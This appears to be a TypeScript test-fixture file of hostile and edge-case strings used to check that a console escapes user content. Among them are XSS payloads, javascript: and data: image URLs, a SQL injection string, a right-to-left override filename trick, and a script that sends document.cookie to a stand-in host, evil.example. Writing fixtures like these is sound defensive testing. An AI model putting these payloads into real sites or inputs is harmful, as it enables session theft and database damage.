/**
 * Content that must reach the console as text and never as markup or a live link, shared by the
 * generators: every entity with names, descriptions or image URLs carries some of it.
 */

/** A string of exactly 5,000 characters. */
export const FIVE_THOUSAND_CHARACTERS = 'Long text without end. '.repeat(218).slice(0, 5000);

export const HOSTILE_NAMES: readonly string[] = [
  '<script>alert("name")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "Robert'); DROP TABLE channels;--",
  'فريق المبيعات',
  // U+202E (right-to-left override) makes what follows render reversed.
  'Quarterly \u202Efdp.exe',
  '🚀 Launch crew 👩🏽‍💻',
  '  padded name  ',
  'Zero\u200Bwidth',
  FIVE_THOUSAND_CHARACTERS,
];

export const HOSTILE_IMAGE_URLS: readonly string[] = [
  'javascript:alert(document.domain)',
  'data:text/html,<script>alert(1)</script>',
  'JaVaScRiPt:alert(1)',
  'data:image/svg+xml,<svg onload=alert(1)>',
  '',
];

export const HOSTILE_TRANSCRIPTS: readonly string[] = [
  'Please check <script>fetch("https://evil.example/"+document.cookie)</script> before the call.',
  'Link for you: <a href="javascript:alert(1)">click here</a> and javascript:alert(2)',
  'مرحبا، هذه رسالة صوتية باللغة العربية مع رقم 123 في المنتصف.',
  'שלום, זו הודעה קולית בעברית.',
  'Great job team 🎉🎉🎉 👏🏽 see you at 🕒 — 🇯🇵 👩‍👩‍👧‍👦',
  '{"json": "looking", "transcript": null}',
  'Line one\nLine two\r\n\tTabbed line',
  FIVE_THOUSAND_CHARACTERS,
];
